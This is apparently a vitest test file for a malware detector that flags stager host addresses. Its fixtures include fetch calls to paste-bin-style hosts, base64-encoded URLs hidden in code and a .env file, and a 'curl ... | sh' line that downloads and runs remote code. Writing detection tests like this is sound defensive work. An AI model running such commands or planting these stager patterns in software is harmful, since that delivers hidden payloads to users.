import { describe, expect, it } from 'vitest';
import { computing, fileHits } from '../../../test/support/file-view.ts';
import detector from './stager-host-address.ts';

describe('stager-host-address', () => {
  const base64 = (text: string): string => Buffer.from(text).toString('base64');
  it.each([
    ["fetch('https://api.npoint.io/00000000000000000000')", 'a.js', 'weak@1'],
    ["fetch('https://fixture-not-real.vercel.app/api/ipcheck-encrypted/1')", 'a.js', 'strong@1'],
    ["fetch('https://fixture-not-real.vercel.app/api/settings/mac?flag=1')", 'a.js', 'strong@1'],
    ["fetch('https://ip-check-fixture-not-real.vercel.app/x')", 'a.js', 'strong@1'],
    [`const k = '${base64('https://jsonkeeper.com/b/FAKE')}'`, 'a.js', 'strong@1'],
    [`AUTH_API=${base64('https://fixture-not-real.vercel.app/api')}\n`, '.env', 'strong@1'],
    ['curl -sL https://fixture-not-real.vercel.app/api/settings/linux | sh\n', 'run.sh', 'strong@1'],
  ])('%s', (text, file, expected) => {
    expect(fileHits(detector, file, text)).toEqual([expected]);
  });
  it('computed', () => {
    expect(
      fileHits(detector, 'a.js', 'join', {
        module: computing({ value: 'https://api.npoint.io/00000000000000000000', how: ['base64'] }),
      }),
    ).toEqual(['strong@1']);
  });
  it.each([
    ["fetch('https://fixture-not-real.vercel.app/api/users')", 'a.js'],
    ["fetch('https://a.invalid/api/settings/linux')", 'a.js'],
    ['See https://api.npoint.io/00000000000000000000', 'README.md'],
    [`const k = '${base64('https://a.invalid/x')}'`, 'a.js'],
  ])('leaves %s alone', (text, file) => {
    expect(fileHits(detector, file, text)).toEqual([]);
  });
});
